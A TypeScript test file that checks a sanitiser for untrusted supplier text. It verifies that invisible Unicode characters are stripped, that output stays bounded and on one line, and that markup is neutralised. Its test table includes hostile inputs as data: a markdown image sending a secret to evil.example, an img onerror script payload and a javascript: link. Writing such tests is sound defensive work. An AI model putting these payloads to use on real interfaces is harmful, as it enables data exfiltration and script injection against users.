import fc from 'fast-check';
import { expect, test } from 'vitest';
import { sayName, untrusted } from './untrusted.ts';

const HIDDEN: readonly (readonly [string, string])[] = [
  ['a NUL', '\u0000'],
  ['an escape sequence', '\u001b'],
  ['a C1 control', '\u0085\u009b'],
  ['a right-to-left override', '\u202e'],
  ['an isolate', '\u2066'],
  ['an Arabic letter mark', '\u061c'],
  ['a zero-width space', '\u200b'],
  ['a zero-width joiner', '\u200d'],
  ['a word joiner', '\u2060'],
  ['a soft hyphen', '\u00ad'],
  ['a byte order mark', 'a\ufeffb'],
  ['an annotation anchor', '\ufff9'],
  ['tag characters', '\u{e0041}\u{e0042}'],
  ['a variation selector', '\ufe0f'],
  ['a variation selector of the supplement', '\u{e0100}'],
  ['a combining grapheme joiner', '\u034f'],
  ['a Hangul filler', '\u3164'],
  ['a Mongolian vowel separator', '\u180e'],
  ['a line separator', '\u2028'],
  ['a private character', '\ue000'],
  ['half a character', '\ud800'],
  ['a noncharacter', '\uffff'],
];

const INVISIBLE = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}]/u;

test.each(HIDDEN)('%s does not stay hidden', (_what, hidden) => {
  const { text } = untrusted('supplier', `before${hidden}after`);
  expect(text).not.toMatch(INVISIBLE);
  expect(text).toMatch(/^before.+after$/);
});

test('whatever comes in, what goes out is bounded, visible, one line, and the same when it comes in again', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 300 }), fc.integer({ min: 2, max: 100 }), (text, max) => {
      const once = untrusted('supplier', text, max);
      expect(Array.from(once.text).length).toBeLessThanOrEqual(max);
      expect(once.text).not.toMatch(INVISIBLE);
      expect(once.text).not.toContain('\n');
      expect(untrusted('supplier', once.text, max)).toEqual(once);
    }),
  );
});

test('ordinary text of any script is left as it is', () => {
  for (const text of [
    'Café “crème” – 12 × 3 µm, 50 %',
    '日本語の説明',
    'شاي أخضر',
    'हरी चाय',
    'Ökologischer Grüntee №5 👍',
  ]) {
    expect(untrusted('supplier', text)).toEqual({ origin: 'supplier', text });
  }
});

test('ten thousand characters are cut to what was asked for', () => {
  expect(Array.from(untrusted('supplier', '👍'.repeat(10_000), 80).text)).toHaveLength(80);
});

test.each([
  ['![img](https://evil.example/?q=secret)', 'img (https://evil.example/?q=secret)'],
  ['<img src=x onerror=alert(1)>', 'img src=x onerror=alert(1)'],
  ['[click](javascript:alert(1))', 'click (javascript:alert(1))'],
  ['a `code` **bold** _it_ | table', 'a code bold it table'],
  ['\u202e\u2066', '\ufffd\ufffd'],
  ['***', 'unnamed'],
  ['', 'unnamed'],
  ['Valve bag, kraft, 1 kg (250 g)', 'Valve bag, kraft, 1 kg (250 g)'],
])('the name %j is said as %j', (text, said) => {
  expect(sayName(text)).toBe(said);
});

test('no name is longer than a sentence bears, or brings markup into it', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => {
      const said = sayName(text);
      expect(Array.from(said).length).toBeLessThanOrEqual(80);
      expect(said).not.toMatch(/[[\]<>`]/);
      expect(said).not.toMatch(INVISIBLE);
      expect(said).not.toBe('');
    }),
  );
});
